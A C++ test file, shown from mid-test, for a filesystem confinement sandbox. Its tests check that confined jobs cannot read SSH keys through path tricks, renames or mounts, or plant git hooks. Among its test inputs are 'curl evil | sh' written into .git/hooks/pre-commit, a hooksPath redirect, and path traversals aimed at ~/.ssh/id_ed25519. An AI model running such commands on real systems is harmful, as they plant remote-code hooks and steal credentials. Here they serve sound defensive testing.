        // The same ways to the job's own file work.
        allowed("read,/proc/self/cwd/mine"),
        allowed("read,/proc/self/root" + w + "/mine"),
        allowed("opath-reopen," + w + "/mine"),
        allowed("opath-reopen," + w + "/mine,w"),
        allowed(fmt::format("openat2,{},mine,beneath", w)),
        allowed(fmt::format("openat2,{},/mine,in_root", w)),
        allowed("uring-open," + w + "/mine,inline"),
        allowed("uring-open," + w + "/mine,sqpoll"),
    };
    OpsRun c = run_ops("", ops);
    expect_confined(c, ops);
    EXPECT_EQ(c.r.out.find(kSshSecret), npos) << c.r.describe();

    OpsRun u = run_ops_unconfined(ops);
    expect_control(u, ops);
    for (size_t i = 0; i < ops.size(); i++)
        if (ops[i].op == "open_read" && u.got.at(i) != failed(ops[i], "EAGAIN")) {
            EXPECT_NE(c.got.at(i), failed(ops[i], "EAGAIN"))
                << "only RESOLVE_CACHED from / may be skipped: " << ops[i].spec;
            EXPECT_NE(u.got.at(i).find(kSshSecret), npos) << "unconfined, '" << ops[i].spec << "' should read the key";
        }
}

TEST_F(FsOpsTest, OddlySpelledPathsAreDecidedOnTheResolvedPath) {
    const std::string w = work(), key = kSshKey;
    write_file(w + "/mine", "mine\n");
    std::string created = std::string(kUserHome) + "/created-by-fsops";
    unlink(created.c_str());
    std::vector<Op> ops = {
        denied(fmt::format("read,{}/{}{}", w, up_to_root(w), key.substr(1)), "open_read", key),
        denied("read,//home//confinetest/./.ssh//id_ed25519", "open_read", key),
        denied(fmt::format("read,{}home/confinetest/.ssh/../.ssh/./id_ed25519", up_to_root(w)), "open_read", key),
        denied("read,/etc/../home/confinetest/notes.txt", "open_read", kNotes),
        // A cwd the job can traverse but not read: chdir works (it reads
        // nothing), listing it does not, and every path from there is
        // decided where it leads.
        allowed(fmt::format("chdir,{}", kUserHome)),
        denied("open,.,r", "open_read", kUserHome),
        denied("read,.ssh/id_ed25519", "open_read", key),
        denied("read,./notes.txt", "open_read", kNotes),
        denied("open,created-by-fsops,w+creat", "create", created),
        allowed(fmt::format("read,../..{}/mine", w)),
        allowed("read,.//..//..//etc//./hostname"),
        allowed("read,/proc/self/cwd/../../etc/hostname"),
    };
    check_ops(
        "", ops, [&] { unlink(created.c_str()); }, [&] { EXPECT_FALSE(exists(created)); });
    unlink(created.c_str());
}

// ---- carve-outs that don't exist yet ----------------------------------------------------------

// An empty .git, as if the runner had only begun a checkout. (Where there is
// no .git at all, the default policy doesn't let the job create one:
// GitTest.AJobCannotCreateDotGitWhereThereIsNone.)
TEST_F(FsOpsTest, GitCarveOutsHoldBeforeTheyExistInAnEmptyDotGit) {
    const std::string cmd =
        "mkdir -p .git/hooks; echo \"mkdir=$?\"; echo x > .git/config; echo \"config=$?\"; "
        "mkdir .git/hooks-old .git/objects && echo others-ok";
    make_dir(work() + "/.git");
    Result r = run_confined("", cmd);
    EXPECT_EQ(r.status, 0) << r.describe();
    EXPECT_NE(r.out.find("mkdir=1\n"), npos) << r.describe();
    EXPECT_EQ(r.out.find("config=0\n"), npos) << r.describe();
    // Whole components: .git/hooks-old is not under .git/hooks.
    EXPECT_NE(r.out.find("others-ok\n"), npos) << r.describe();
    EXPECT_FALSE(exists(work() + "/.git/hooks"));
    EXPECT_FALSE(exists(work() + "/.git/config"));
    EXPECT_DENIAL(r, "mkdir", work() + "/.git/hooks", "mkdir");
    EXPECT_DENIAL(r, "create", work() + "/.git/config", "sh");
    EXPECT_EQ(r.audit.size(), 2u) << r.describe();

    fs::remove_all(work() + "/.git");
    make_dir(work() + "/.git");
    Result control = run_unconfined(cmd);
    EXPECT_EQ(control.out, "mkdir=0\nconfig=0\nothers-ok\n") << control.describe();
}

void chown_tree(const std::string& dir) {
    lchown(dir.c_str(), test_user().uid, test_user().gid);
    for (const auto& e : fs::recursive_directory_iterator(dir))
        lchown(e.path().c_str(), test_user().uid, test_user().gid);
}

TEST_F(FsOpsTest, GitWorksInAPreparedCheckoutWhoseHooksAndConfigStayReadOnly) {
    // A checkout prepared by root before the job, as a runner does it.
    const std::string src = at("src"), w = work();
    fs::create_directories(src);
    std::ofstream(src + "/README") << "readme\n";
    Result prep = run_root(
        fmt::format("set -e; git -C {0} init -q; git -C {0} add -A; "
                    "git -C {0} -c user.name=root -c user.email=root@vmtest commit -qm init; git clone -q {0} {1}",
                    src, w));
    ASSERT_EQ(prep.status, 0) << prep.describe();
    chown_tree(w);
    const std::string config = read_file(w + "/.git/config");
    const std::string cmd =
        "git status --short && echo change >> README && "
        "git -c user.name=job -c user.email=job@vmtest commit -qam edit && git log --oneline | wc -l; "
        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo \"hook=$?\"; "
        "echo '[core] hooksPath = /var/tmp' >> .git/config; echo \"config=$?\"";

    Result r = run_confined("", cmd);
    EXPECT_EQ(r.status, 0) << r.describe();
    EXPECT_TRUE(r.out.starts_with("2\n")) << "git status or commit failed\n" << r.describe();
    EXPECT_EQ(r.out.find("hook=0"), npos) << r.describe();
    EXPECT_EQ(r.out.find("config=0"), npos) << r.describe();
    EXPECT_FALSE(exists(w + "/.git/hooks/pre-commit"));
    EXPECT_EQ(read_file(w + "/.git/config"), config);
    // git itself caused no denial: only the two planted files are audited.
    EXPECT_DENIAL(r, "create", w + "/.git/hooks/pre-commit", "sh");
    EXPECT_DENIAL(r, "open_write", w + "/.git/config", "sh");
    EXPECT_EQ(r.audit.size(), 2u) << r.describe();

    Result control = run_unconfined(cmd);
    EXPECT_EQ(control.out, "3\nhook=0\nconfig=0\n") << control.describe();
}

// Regression: rules name paths, and
// renaming a directory moves everything under it to new paths. A carve-out below a
// writable directory is escaped by renaming the directory away, using it,
// and (for .git/hooks) renaming it back.
TEST_F(FsOpsTest, RenamingAnAncestorDoesNotEscapeACarveOut) {
    const std::string w = work(), p = at("P");
    make_dir(w + "/.git/hooks");
    write_file(w + "/.git/config", "[core]\n");
    make_dir(p + "/a/secret");
    write_file(p + "/a/secret/f", "hidden\n");
    const std::string policy = make_policy(
        {.write = {p}, .deny_write = {"{workdir}/.git/hooks", "{workdir}/.git/config"}, .deny = {p + "/a/secret"}});
    const std::string cmd = fmt::format(
        "mv .git g && echo evil > g/hooks/pre-commit && mv g .git; "
        "mv {0}/a {0}/b && cat {0}/b/secret/f",
        p);

    Result r = run_confined(policy, cmd);
    EXPECT_FALSE(exists(w + "/.git/hooks/pre-commit")) << "a hook was planted through a renamed .git\n" << r.describe();
    EXPECT_EQ(r.out.find("hidden"), npos) << "a denied file was read through a renamed parent\n" << r.describe();
    EXPECT_FALSE(r.audit.empty()) << r.describe();

    // The control starts from the same state.
    fs::remove_all(w + "/.git");
    fs::remove_all(p);
    make_dir(w + "/.git/hooks");
    make_dir(p + "/a/secret");
    write_file(p + "/a/secret/f", "hidden\n");
    Result control = run_unconfined(cmd);
    EXPECT_EQ(control.status, 0) << control.describe();
    EXPECT_EQ(control.out, "hidden\n") << control.describe();
    EXPECT_TRUE(exists(w + "/.git/hooks/pre-commit"));
}

// ---- mounts ----------------------------------------------------------------------------------------

// Rules name paths as the job sees them. Only root can mount (the job has
// no capabilities and no user namespaces), so what a mount exposes is the
// runner's choice: a bind mount of ~/.ssh inside the workdir IS readable
// there, by design, while every other place it is mounted stays denied.
TEST_F(FsOpsTest, MountsAreJudgedByThePathTheJobSees) {
    const std::string w = work();
    const std::string tmpfs = w + "/mnt", bind_out = at("ssh-bind"), bind_home = std::string(kDenied) + "/ssh-bind",
                      bind_in = w + "/ssh-bind";
    for (const auto& d : {tmpfs, bind_in, bind_home}) make_dir(d);
    fs::create_directories(bind_out);
    Mounts m;
    const std::string opts = fmt::format("mode=0755,uid={},gid={}", test_user().uid, test_user().gid);
    ASSERT_TRUE(m.add("tmpfs", tmpfs, "tmpfs", 0, opts.c_str()));
    for (const auto& d : {bind_out, bind_home, bind_in}) ASSERT_TRUE(m.add(kSshDir, d, nullptr, MS_BIND));

    std::vector<Op> ops = {
        allowed(fmt::format("open,{}/f,w+creat", tmpfs)),
        allowed(fmt::format("read,{}/f", tmpfs)),
        allowed(fmt::format("mkdir,{}/d", tmpfs)),
        allowed(fmt::format("utimes,{}/f,set", tmpfs)),
        allowed(fmt::format("rename,{0}/f,{0}/g", tmpfs)),
        allowed(fmt::format("tmpfile,{}", tmpfs)),
        allowed(fmt::format("tmpfile-link,{0},{0}/linked", tmpfs)),
        denied(fmt::format("read,{}/id_ed25519", bind_out), "open_read", bind_out + "/id_ed25519"),
        denied(fmt::format("read,{}/id_ed25519", bind_home), "open_read", bind_home + "/id_ed25519"),
        // The documented path semantics: readable where root mounted it.
        allowed(fmt::format("read,{}/id_ed25519", bind_in)),
    };
    auto reset = [&] {
        std::error_code ec;
        for (const auto& e : fs::directory_iterator(tmpfs, ec)) fs::remove_all(e.path(), ec);
    };
    reset();
    OpsRun c = run_ops("", ops);
    expect_confined(c, ops);
    EXPECT_NE(c.got.at(ops.size() - 1).find(kSshSecret), npos) << c.r.describe();
    reset();
    expect_control(run_ops_unconfined(ops), ops);
}

// Hooks that get a file but no mount (times, xattrs) decide through every
// mount of its filesystem in the job's namespace, up to 4 (MAX_SB_MOUNTS):
// a file mounted more often is refused, with reason too_many_mounts. 20
// mounts show the bound holds on every kernel: 6.1's verifier checks a
// bpf_loop callback once, from the caller's count of 0, and removed the
// bound as never true, so the fifth mount was stored past the list.
TEST_F(FsOpsTest, TimesAndXattrsOfAFileMountedMoreThanFourTimesAreRefused) {
    const std::string opts = fmt::format("mode=0755,uid={},gid={}", test_user().uid, test_user().gid);
    for (int mounts : {4, 5, 20}) {
        SCOPED_TRACE(fmt::format("{} mounts", mounts));
        const std::string top = fmt::format("{}/m{}", work(), mounts), f = top + "/f";
        make_dir(top);
        Mounts m;
        ASSERT_TRUE(m.add("tmpfs", top, "tmpfs", 0, opts.c_str()));
        for (int i = 1; i < mounts; i++) {
            const std::string bind = fmt::format("{}-{}", top, i);
            make_dir(bind);
            ASSERT_TRUE(m.add(top.c_str(), bind, nullptr, MS_BIND));
        }
        std::ofstream(f) << "x";
        ASSERT_EQ(chown(f.c_str(), test_user().uid, test_user().gid), 0);
        Op times = allowed("utimes," + f + ",set"), xattr = allowed("setxattr," + f + ",user.k,v");
        xattr.xattr = true;  // 6.1's tmpfs has no user.* xattrs
        if (mounts > 4) {
            times.op = "setattr";
            xattr.op = "setxattr";
            times.reason = xattr.reason = "too_many_mounts";
        }
        check_ops("", {times, xattr}, [] {});
    }
}

// ---- limits of the walk -------------------------------------------------------------------------------

// Creates `levels` nested directories named `name` under `dir` (owned by
// the test user), without ever naming the whole path, and a file "f" at
// every depth listed in `files`. Returns the path of the deepest level.
std::string nest(const std::string& dir, const std::string& name, int levels, const std::vector<int>& files) {
    int fd = open(dir.c_str(), O_DIRECTORY | O_RDONLY);
    std::string path = dir;
    for (int i = 1; i <= levels && fd >= 0; i++) {
        mkdirat(fd, name.c_str(), 0755);
        fchownat(fd, name.c_str(), test_user().uid, test_user().gid, AT_SYMLINK_NOFOLLOW);
        int next = openat(fd, name.c_str(), O_DIRECTORY | O_RDONLY);
        close(fd);
        fd = next;
        path += "/" + name;
        if (std::find(files.begin(), files.end(), i) != files.end()) {
            int f = openat(fd, "f", O_CREAT | O_WRONLY | O_TRUNC, 0644);
            (void)!write(f, "deep\n", 5);
            fchown(f, test_user().uid, test_user().gid);
            close(f);
        }
    }
    if (fd < 0) ADD_FAILURE() << "nest " << dir << ": " << strerror(errno);
    close(fd);
    return path;
}

// Removes a tree that may be deeper or longer than PATH_MAX.
void remove_deep(int parent, const char* name) {
    int fd = openat(parent, name, O_DIRECTORY | O_RDONLY | O_NOFOLLOW);
    if (fd >= 0) {
        DIR* d = fdopendir(fd);
        std::vector<std::string> names;
        while (dirent* e = readdir(d))
            if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) names.push_back(e->d_name);
        for (const auto& n : names) {
            if (unlinkat(fd, n.c_str(), 0) != 0) remove_deep(fd, n.c_str());
        }
        closedir(d);
    }
    unlinkat(parent, name, AT_REMOVEDIR);
}

TEST_F(FsOpsTest, PathsDeeperThan256ComponentsAreNeverAllowed) {
    // Both under the workdir, where the rules allow everything.
    const std::string w = work();
    const std::string deep = nest(w, "d", 300, {200, 300});
    const std::string mid = w + [] {
        std::string s;
        for (int i = 0; i < 200; i++) s += "/d";
        return s;
    }();
    std::vector<Op> ops = {
        {.spec = "read," + deep + "/f", .op = "open_read", .target = deep + "/f", .reason = "path_too_deep"},
        {.spec = "open," + deep + "/new,w+creat", .op = "create", .target = deep + "/new", .reason = "path_too_deep"},
        allowed("read," + mid + "/f"),
        allowed("open," + mid + "/new,w+creat"),
    };
    check_ops("", ops, [&] {
        unlink((deep + "/new").c_str());
        unlink((mid + "/new").c_str());
    });
    int fd = open(w.c_str(), O_DIRECTORY | O_RDONLY);
    remove_deep(fd, "d");
    close(fd);
}

TEST_F(FsOpsTest, PathsLongerThan4096BytesAreNeverAllowed) {
    const std::string w = work(), name(250, 'n');
    // 17 levels of 251 bytes: 4267 bytes below the workdir; a file at
    // level 12 (about 3100 bytes in all) is within the limit.
    const std::string longest = nest(w, name, 17, {12, 17});
    const std::string mid = longest.substr(0, w.size() + 12 * 251);
    ASSERT_LT(mid.size() + 2, 4096u);
    ASSERT_GT(longest.size(), 4096u);
    // The job gets there by relative steps, each shorter than PATH_MAX.
    auto steps = [&](int n) {
        std::string s = name;
        for (int i = 1; i < n; i++) s += "/" + name;
        return s;
    };
    std::vector<Op> ops = {
        allowed("chdir," + w),
        allowed("chdir," + steps(9)),
        allowed("chdir," + steps(8)),
        {.spec = "read,f", .op = "open_read", .target = longest + "/f", .reason = "path_too_long"},
        {.spec = "open,new,w+creat", .op = "create", .target = longest + "/new", .reason = "path_too_long"},
        allowed("chdir," + w),
        allowed("read," + mid + "/f"),
        allowed("open," + mid + "/new,w+creat"),
    };
    auto reset = [&] {
        int fd = open(w.c_str(), O_DIRECTORY | O_RDONLY);
        std::string rel = steps(12);
        unlinkat(fd, (rel + "/new").c_str(), 0);
        int d = openat(fd, rel.c_str(), O_DIRECTORY | O_RDONLY);
        int d2 = openat(d, steps(5).c_str(), O_DIRECTORY | O_RDONLY);
        unlinkat(d2, "new", 0);
        close(d2);
        close(d);
        close(fd);
    };
    check_ops("", ops, reset);
    int fd = open(w.c_str(), O_DIRECTORY | O_RDONLY);
    remove_deep(fd, name.c_str());
    close(fd);
}

// A FUSE filesystem that root mounted, in which every name starting with
// 'a' is the file "hello\n" and "d" a directory like the root, each its own
// (a directory has one dentry). FUSE takes names of up to 1,024 bytes,
// longer than any other filesystem's NAME_MAX (255).
class LongNameFuse {
public:
    ::testing::AssertionResult mount(Mounts& m, const std::string& at) {
        fd_ = open("/dev/fuse", O_RDWR | O_CLOEXEC);
        if (fd_ < 0) return ::testing::AssertionFailure() << "/dev/fuse: " << strerror(errno);
        const std::string opts = fmt::format("fd={},rootmode=40000,user_id=0,group_id=0,allow_other", fd_);
        if (auto r = m.add("confine-test", at, "fuse", 0, opts.c_str()); !r) return r;
        server_ = fork();
        if (server_ == 0) serve();
        return ::testing::AssertionSuccess();
    }
    // Ends the server; its mount, whose requests then fail (ENOTCONN),
    // goes with the test's Mounts.
    ~LongNameFuse() {
        if (fd_ >= 0) close(fd_);
        if (server_ > 0) {
            kill(server_, SIGKILL);
            waitpid(server_, nullptr, 0);
        }
    }

private:
    static constexpr uint64_t kRoot = FUSE_ROOT_ID, kFile = 2;
    [[noreturn]] void serve() {
        static char buf[FUSE_MIN_READ_BUFFER + (1 << 17)];
        for (;;) {
            ssize_t n = read(fd_, buf, sizeof buf);
            if (n < 0 && (errno == EINTR || errno == EAGAIN)) continue;
            if (n < static_cast<ssize_t>(sizeof(fuse_in_header))) _exit(0);
            const auto* in = reinterpret_cast<const fuse_in_header*>(buf);
            answer(*in, buf + sizeof *in);
        }
    }
    void reply(uint64_t unique, int err, const void* data = nullptr, size_t size = 0) {
        char out[sizeof(fuse_out_header) + 256];
        fuse_out_header h{.len = static_cast<uint32_t>(sizeof h + size), .error = -err, .unique = unique};
        memcpy(out, &h, sizeof h);
        if (size) memcpy(out + sizeof h, data, size);
        if (write(fd_, out, h.len) < 0) _exit(1);
    }
    static fuse_attr attr(uint64_t ino) {
        return {.ino = ino,
                .size = ino == kFile ? 6u : 0u,
                .mode = ino == kFile ? S_IFREG | 0666u : S_IFDIR | 0777u,
                .nlink = ino == kFile ? 1u : 2u,
                .blksize = 4096};
    }
    void answer(const fuse_in_header& in, const char* arg) {
        switch (in.opcode) {
            case FUSE_INIT: {
                const auto* i = reinterpret_cast<const fuse_init_in*>(arg);
                fuse_init_out o{.major = FUSE_KERNEL_VERSION,
                                .minor = std::min<uint32_t>(i->minor, FUSE_KERNEL_MINOR_VERSION),
                                .max_readahead = i->max_readahead,
                                .max_write = 4096,
                                .time_gran = 1};
                return reply(in.unique, 0, &o, sizeof o);
            }
            case FUSE_LOOKUP: {
                uint64_t ino = arg[0] == 'a'           ? kFile
                               : strcmp(arg, "d") != 0 ? 0
                               : in.nodeid == kRoot    ? kFile + 1
                                                       : in.nodeid + 1;
                if (!ino) return reply(in.unique, ENOENT);
                fuse_entry_out e{.nodeid = ino, .entry_valid = 3600, .attr_valid = 3600, .attr = attr(ino)};
                return reply(in.unique, 0, &e, sizeof e);
            }
            case FUSE_GETATTR:
            case FUSE_SETATTR: {
                fuse_attr_out a{.attr_valid = 3600, .attr = attr(in.nodeid)};
                return reply(in.unique, 0, &a, sizeof a);
            }
            case FUSE_OPEN:
            case FUSE_OPENDIR: {
                fuse_open_out o{};
                return reply(in.unique, 0, &o, sizeof o);
            }
            case FUSE_READ: {
                const auto* r = reinterpret_cast<const fuse_read_in*>(arg);
                static const char kText[] = "hello\n";
                size_t off = std::min<uint64_t>(r->offset, 6);
                return reply(in.unique, 0, kText + off, 6 - off);
            }
            case FUSE_READDIR:  // empty: the lookups are what matter
            case FUSE_RELEASE:
            case FUSE_RELEASEDIR:
            case FUSE_FLUSH: return reply(in.unique, 0);
            case FUSE_FORGET:
            case FUSE_BATCH_FORGET:
            case FUSE_INTERRUPT: return;  // no reply expected
            default: return reply(in.unique, ENOSYS);
        }
    }
    int fd_ = -1;
    pid_t server_ = -1;
};

// A name longer than NAME_MAX can't be decided (rules and cache slots are
// sized for NAME_MAX): refused as path_too_long, even where the job may
// write everything, and even after it listed the directory, whose slot
// would decide its entries without a walk. The walk reads nothing of such
// a path: the record's target is ".../". A short name in the same
// filesystem opens, and unconfined every name does.
TEST_F(FsOpsTest, NamesLongerThan255BytesAreNeverAllowed) {
    const std::string fz = work() + "/fz", name = "a" + std::string(299, 'b');
    make_dir(fz);
    Mounts m;
    LongNameFuse fuse;
    ASSERT_TRUE(fuse.mount(m, fz));
    auto too_long = [](std::string spec, std::string op) {
        Op o = denied(std::move(spec), std::move(op), ".../");
        o.reason = "path_too_long";
        return o;
    };
    std::vector<Op> ops = {
        allowed("read," + fz + "/a"),
        too_long("read," + fz + "/" + name, "open_read"),
        allowed("list," + fz),
        allowed("list," + fz + "/d"),
        too_long("open," + fz + "/d/" + name + ",w", "open_write"),
        too_long("read," + fz + "/d/d/" + name, "open_read"),
    };
    check_ops("", ops, [] {});
}

// A directory inside one whose entries a job may all write, and whose
// names no rule singles out, takes its decision and its entries' from its
// parent, with a level fewer, and skips the walk (inherited): whether the
// job made it (`tar x`, `mkdir -p`) or opens it (`rm -rf`, `git status`).
// The levels stop that where a walk of its path would stop: a job nesting
// directories itself, or opening a nest made for it, deep or long, is
// refused at the same level either way, and for the walk's reason. Names
// of NAME_MAX bytes, nested in a short directory, are what the levels'
// bound is exact for (one level more reaches past PATH_MAX).
TEST_F(FsOpsTest, DirectoriesAJobNestsOrOpensStopWhereTheWalkStops) {
    const std::string w = work() + "/n";
    mkdir(w.c_str(), 0755);
    chown(w.c_str(), test_user().uid, test_user().gid);
    struct Case {
        std::string name;
        int levels;
        std::string reason;
    };
    for (const Case& c : {Case{"d", 300, "path_too_deep"}, Case{std::string(255, 'n'), 20, "path_too_long"}}) {
        SCOPED_TRACE(c.reason);
        auto remove = [&] {
            int fd = open(w.c_str(), O_DIRECTORY | O_RDONLY);
            remove_deep(fd, c.name.c_str());
            close(fd);
        };
        // The level refused ("EPERM at K"), with one audit line naming why.
        auto refused_at = [&](const std::string& spec, const std::string& op) {
            OpsRun run = run_ops("", {allowed(spec)});
            const std::string got = run.got.at(0);
            EXPECT_TRUE(got.starts_with(spec.substr(0, spec.find(',')) + ":EPERM at ")) << got << "\n"
                                                                                        << run.r.describe();
            size_t refusals = 0;
            for (const AuditLine& l : run.r.audit)
                if (l.str("op") == op) {
                    refusals++;
                    EXPECT_EQ(l.str("reason").value_or(""), c.reason) << l.raw;
                }
            EXPECT_EQ(refusals, 1u) << run.r.describe();
            if (op == "mkdir") remove();  // what the job nested
            return got;
        };
        const std::string levels = fmt::format("{},{},{}", w, c.name, c.levels);
        EXPECT_EQ(refused_at("nest," + levels, "mkdir"), refused_at("nest," + levels + ",walk", "mkdir"));
        // The control, which also makes the nest to open: the kernel takes
        // every level.
        OpsRun u = run_ops_unconfined({allowed("nest," + levels)});
        ASSERT_EQ(u.got.at(0), "ok") << u.r.describe();
        EXPECT_EQ(refused_at("descend," + levels, "open_read"), refused_at("descend," + levels + ",walk", "open_read"));
        u = run_ops_unconfined({allowed("descend," + levels)});
        EXPECT_EQ(u.got.at(0), "ok") << u.r.describe();
        remove();
    }
}

// A directory's decision on its entries, kept when it was listed or
// created in, reaches no entry a rule singles out. The job lists a tree
// (as `rm -rf`, `git status` and `find` do) before it tries the carve-outs
// in it: each is decided by its own rule. It lists t first, whose walk
// keeps the decision on its unnamed entries; the workdir's would reach t
// alone. A long name shares its first 19 bytes with an unruled sibling,
// as far as fs_names keeps names apart.
TEST_F(FsOpsTest, ListingATreeFirstLeavesItsCarveOutsAlone) {
    const std::string t = work() + "/t", long_ro = "carve-out-with-a-long-name", long_rw = "carve-out-with-a-lo-other";
    const std::string policy =
        make_policy({.deny_write = {"{workdir}/t/ro", "{workdir}/t/rofile", "{workdir}/t/" + long_ro},
                     .deny = {"{workdir}/t/sec"}});
    auto reset = [&] {
        for (const std::string& d :
             std::vector<std::string>{"", "/ro", "/sec", "/" + long_ro, "/" + long_rw, "/open", "/open/sub"}) {
            mkdir((t + d).c_str(), 0755);
            write_file(t + d + "/f", "original\n");
            unlink((t + d + "/new").c_str());
            for (const std::string& p : {t + d, t + d + "/f"}) chown(p.c_str(), test_user().uid, test_user().gid);
        }
        write_file(t + "/rofile", "original\n");
    };
    std::vector<Op> ops;
    for (const std::string& d :
         std::vector<std::string>{"/t", "/t/ro", "/t/" + long_ro, "/t/" + long_rw, "/t/open", "/t/open/sub", ""})
        ops.push_back(allowed("list," + work() + d));
    ops.push_back(denied("list," + t + "/sec", "open_read", t + "/sec"));
    ops.push_back(denied("read," + t + "/sec/f", "open_read", t + "/sec/f"));
    const std::vector<std::string> kept = {"/ro/f", "/rofile", "/" + long_ro + "/f"};
    for (const std::string& f : kept) ops.push_back(denied(fmt::format("open,{}{},w", t, f), "open_write", t + f));
    ops.push_back(denied(fmt::format("open,{}/ro/new,w+creat", t), "create", t + "/ro/new"));
    for (const std::string& f :
         std::vector<std::string>{"/" + long_rw + "/f", "/open/f", "/open/sub/f", "/open/sub/new"})
        ops.push_back(allowed(fmt::format("open,{}{},w+creat", t, f)));
    check_ops(policy, ops, reset, [&] {
        for (const std::string& f : kept) EXPECT_EQ(read_file(t + f), "original\n") << f;
    });
    fs::remove_all(t);
}

// Regression: utimes and xattr changes are
// decided on every mount of the file's filesystem, up to 4. Mounts in other
// mount namespaces were skipped but still counted, so on a host with a few
// private mount namespaces (systemd services with PrivateTmp= or
// ProtectSystem= each hold one) every `touch` in the workdir was refused.
TEST_F(FsOpsTest, TimesAndXattrsInTheWorkdirCanBeSetWhileOtherMountNamespacesExist) {
    write_file(work() + "/f", "x\n");
    // Each child holds a mount namespace: a copy of every mount, the
    // root's included, until the pipe closes.
    int hold[2], ready[2];
    ASSERT_EQ(pipe(hold), 0);
    ASSERT_EQ(pipe(ready), 0);
    std::vector<pid_t> kids;
    for (int i = 0; i < 5; i++) {
        pid_t pid = fork();
        ASSERT_GE(pid, 0);
        if (pid == 0) {
            close(hold[1]);
            char c = unshare(CLONE_NEWNS) == 0 ? 'y' : 'n';
            (void)!write(ready[1], &c, 1);
            (void)!read(hold[0], &c, 1);
            _exit(0);
        }
        kids.push_back(pid);
    }
    close(hold[0]);
    close(ready[1]);
    struct Reap {
        int fd;
        std::vector<pid_t>& kids;
        ~Reap() {
            close(fd);
            for (pid_t k : kids) waitpid(k, nullptr, 0);
        }
    } reap{hold[1], kids};
    for (size_t i = 0; i < kids.size(); i++) {
        char c = 0;
        ASSERT_EQ(read(ready[0], &c, 1), 1);
        ASSERT_EQ(c, 'y') << "unshare(CLONE_NEWNS) failed";
    }
    close(ready[0]);

    std::vector<Op> ops = {
        allowed(fmt::format("utimes,{}/f,set", work())),
        allowed(fmt::format("utimes,{}/f,now", work())),
        {.spec = fmt::format("setxattr,{}/f,user.fsops,v", work()), .xattr = true},
        allowed(fmt::format("chmod,{}/f,600", work())),
    };
    check_ops("", ops, [] {});
}

// ---- a realistic session ------------------------------------------------------------------------------

// Under the default policy: clone a project from /opt (file://, since git's
// local clone would hard-link objects it can't write, which confine refuses
// by design), build it, test it, edit it and commit. No denial at all.
//
// The job first gives git an identity in its private HOME, as an agent
// must: HOME is fresh and the environment scrubbed, so git has none. Without
// one, git derives user@hostname for the reflog entries `git clone` writes,
// and for a hostname with no dot (the guest's "vmtest") that /etc/hosts
// doesn't list it asks DNS for the canonical name: two refused
// `udp://<nameserver>:53` connects in the audit log (harmless: git goes on),
// and `git commit` itself fails ("Please tell me who you are").
TEST_F(FsOpsTest, RealisticSessionRunsWithoutAnyDenial) {
    const std::string src = "/opt/confine-fsops-demo";
    struct Remove {
        std::string dir;
        ~Remove() {
            std::error_code ec;
            fs::remove_all(dir, ec);
        }
    } remove{src};
    fs::remove_all(src);
    fs::create_directories(src);
    std::ofstream(src + "/hello.c") << "#include <stdio.h>\nint main(void) { puts(\"hello, world\"); return 0; }\n";
    std::ofstream(src + "/Makefile") << "hello: hello.c\n\t$(CC) -O0 -o $@ hello.c\n"
                                        "build: hello\n"
                                        "test: hello\n\t./hello | grep -qx 'hello, world' && echo tests-passed\n"
                                        ".PHONY: build test\n";
    std::ofstream(src + "/NOTES") << "notes\n";
    Result prep = run_root(fmt::format(
        "set -e; cd {}; git init -q; git add -A; git -c user.name=root -c user.email=root@vmtest commit -qm init",
        src));
    ASSERT_EQ(prep.status, 0) << prep.describe();
    // The user's own (git refuses to serve a repository of another owner),
    // but read-only to the job: /opt is a read rule.
    chown_tree(src);

    const std::string cmd = fmt::format(
        "set -e; git config --global user.name job; git config --global user.email job@vmtest; "
        "git clone -q file://{} proj; cd proj; make -s build; make -s test; "
        "echo 'built and tested under confine' >> NOTES; git commit -qam 'notes'; git log --oneline | wc -l",
        src);
    Result r = run_confined("", cmd);
    EXPECT_EQ(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, "tests-passed\n2\n") << r.describe();
    EXPECT_TRUE(r.audit.empty()) << r.describe();
    if (r.status != 0) {
        // Does the session work at all without confine? (HOME is the real
        // one here: the identity lands in ~/.gitconfig, removed after.)
        fs::remove_all(work() + "/proj");
        Result control = run_unconfined(cmd);
        unlink((std::string(kUserHome) + "/.gitconfig").c_str());
        ADD_FAILURE() << "the same session unconfined:\n" << control.describe();
    }
}

}  // namespace
}  // namespace vmtest
